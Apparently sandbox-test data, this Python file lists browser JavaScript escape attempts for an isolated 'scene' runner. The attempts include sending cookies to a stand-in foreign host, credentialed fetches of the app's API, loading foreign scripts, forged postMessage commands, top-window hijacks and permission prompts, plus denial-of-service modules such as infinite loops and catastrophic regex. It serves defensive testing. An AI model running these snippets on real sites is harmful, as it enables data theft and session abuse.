"""What a scene's code could try: as data. Each is the body of an async function that knows `B` (a foreign server's
address) and `HERE` (ours). NASTY ones harm whoever runs them: each is a whole module, with how it has to end."""

TRIED = {
    # Out into the network
    "fetch": "await fetch(B)",
    "fetch without cors": "await fetch(B, { mode: 'no-cors' })",
    "fetch ours with cookies": "await fetch(HERE + '/api/v1/me', { credentials: 'include' })",
    "keepalive": "await fetch(B, { method: 'POST', keepalive: true, body: 'x' })",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', B, false); x.send()",
    "websocket": "new WebSocket(B.replace('http', 'ws'))",
    "eventsource": "new EventSource(B)",
    "webtransport": "new WebTransport(B.replace('http:', 'https:'))",
    "sendbeacon": "navigator.sendBeacon(B, 'x')",
    "webrtc": "const c = new RTCPeerConnection(); c.createDataChannel('x'); await c.createOffer()",
    # By what pages load
    "image": "new Image().src = B + '/image'",
    "css background": "document.body.style.background = `url(${B}/css)`",
    "css import": "document.head.insertAdjacentHTML('beforeend', `<style>@import url(${B})</style>`)",
    "stylesheet": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: B }))",
    "prefetch": "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: B }))",
    "font": "const f = new FontFace('x', `url(${B}/font)`); await f.load()",
    "video": "document.body.append(Object.assign(document.createElement('video'), { src: B, autoplay: true }))",
    "object": "document.body.append(Object.assign(document.createElement('object'), { data: B }))",
    "embed": "document.body.append(Object.assign(document.createElement('embed'), { src: B }))",
    "svg": "document.body.insertAdjacentHTML('beforeend', `<svg><image href=\"${B}\"/></svg>`)",
    # Other code
    "script element": "document.body.append(Object.assign(document.createElement('script'), { src: B }))",
    "inline handler": "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"fetch('${B}')\">`)",
    "import of a foreign module": "await import(B + '/evil.js')",
    "import of a data url": "await import('data:text/javascript,fetch(`' + B + '`)')",
    "import of our modules": "await import(HERE + '/static/js/lib/server.js')",
    "eval": "eval(`fetch('${B}')`)",
    "function": "new Function(`fetch('${B}')`)()",
    "importScripts": "importScripts(B)",
    "worker of a foreign file": "new Worker(B + '/w.js')",
    "worker of its own": "new Worker(URL.createObjectURL(new Blob([`fetch('${B}').catch(() => {})`])))",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob(['1'])))",
    "worklet": "await new AudioContext().audioWorklet.addModule(B)",
    "webassembly": "await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))",
    # The page around it
    "parent's document": "parent.document.title = 'taken'",
    "parent's variables": "parent.taken = top.taken = 1",
    "opener": "opener.location = B",
    "top's address": "top.location = B",
    "top's address by method": "top.location.replace(B)",
    "parent's history": "parent.history.pushState(null, '', '/taken')",
    "forged messages": "parent.postMessage({ scene: true, type: 'error', message: '<b>taken</b>' }, '*')",
    "orders to the page": "parent.postMessage({ scene: true, type: 'run', code: 'x' }, '*')",
    "prototypes": "Object.prototype.scene = true; Array.prototype.map = () => []; Function.prototype.call = () => 0",
    "frames beside it": "for (let n = 0; n < top.length; n += 1) top[n].postMessage({ type: 'run', code: 'x' }, '*')",
    # Elsewhere
    "popup": "open(B)",
    "popup at the top": "open(B, '_top')",
    "link to the top": "const a = Object.assign(document.createElement('a'), { href: B, target: '_top' }); a.click()",
    "link that pings": "const a = Object.assign(document.createElement('a'), { href: '#', ping: B }); a.click()",
    "download": "const a = Object.assign(document.createElement('a'), { href: 'data:,', download: 'x' }); a.click()",
    "form": (
        "const f = Object.assign(document.createElement('form'), { action: B, method: 'post', target: '_top' });"
        "document.body.append(f); f.submit()"
    ),
    "own address": "self.location = B.replace('http:', 'javascript:')",
    "base": "document.head.append(Object.assign(document.createElement('base'), { href: B }))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: B }))",
    "frame with a document": (
        "document.body.append(Object.assign(document.createElement('iframe'),"
        "{ srcdoc: `<script>fetch('${B}')</script><img src='${B}'>` }))"
    ),
    # What browsers keep
    "cookie": "document.cookie = 'taken=1; path=/'; if (document.cookie) await fetch(B + document.cookie)",
    "cookie store": "await cookieStore.set('taken', '1')",
    "local storage": "localStorage.taken = 1",
    "session storage": "sessionStorage.taken = 1",
    "database": "await new Promise((go, no) => Object.assign(indexedDB.open('taken'), { onsuccess: go, onerror: no }))",
    "cache": "await caches.open('taken')",
    "files": "await navigator.storage.getDirectory()",
    "service worker": "await navigator.serviceWorker.register(HERE + '/sw.js')",
    "channel": "new BroadcastChannel('brushwire').postMessage('taken')",
    "locks": "await navigator.locks.request('taken', () => 1)",
    "name": "window.name = 'taken'",
    # The person
    "dialogs": "alert('x'); confirm('x'); prompt('x'); print()",
    "camera": "await navigator.mediaDevices.getUserMedia({ video: true })",
    "place": "await new Promise((go, no) => navigator.geolocation.getCurrentPosition(go, no))",
    "notification": "if ((await Notification.requestPermission()) === 'granted') new Notification('x')",
    "clipboard": "await navigator.clipboard.writeText('taken')",
    "full screen": "await document.documentElement.requestFullscreen()",
    "pointer": "await document.body.requestPointerLock()",
    "password": "await navigator.credentials.get({ password: true })",
    "payment": "await new PaymentRequest([{ supportedMethods: B }], { total: { label: 'x' } }).show()",
}

BUILD = "export default () => {{ {0} }};"
SILENT, FAILED, RUNS, LOADS = "no sign of life", "failed", "running", "loading"
NASTY = {
    "loops before it is built": ("for (;;);\nexport default () => {};", SILENT),
    "loops while it is built": (BUILD.format("for (;;);"), SILENT),
    "loops when it is drawn": ("export default () => () => { for (;;); };", SILENT),
    "loops without ever resting": (BUILD.format("const on = () => Promise.resolve().then(on); on();"), SILENT),
    "searches for ever": (BUILD.format("/^(a+)+$/.test('a'.repeat(50) + 'b')"), SILENT),
    "never gets ready": ("await new Promise(() => {});\nexport default () => {};", LOADS),
    "takes all memory": (BUILD.format("const all = []; for (;;) all.push(new ArrayBuffer(2 ** 30));"), FAILED),
    "calls itself": (BUILD.format("const f = () => f() + 1; f();"), FAILED),
    "throws what cannot be told": (BUILD.format("throw { toString() { throw 1; } };"), FAILED),
    "throws very much": (BUILD.format("throw new Error('x'.repeat(1e7));"), FAILED),
    "is no code": ("export default <b>", FAILED),
    "makes nothing": ("export const scene = 1;", FAILED),
    "rejects later": (BUILD.format("setTimeout(() => Promise.reject(new Error('later')), 0);"), FAILED),
    "ends itself": (BUILD.format("self.close?.(); self.postMessage?.({ type: 'pong', n: 1 });"), RUNS),
}
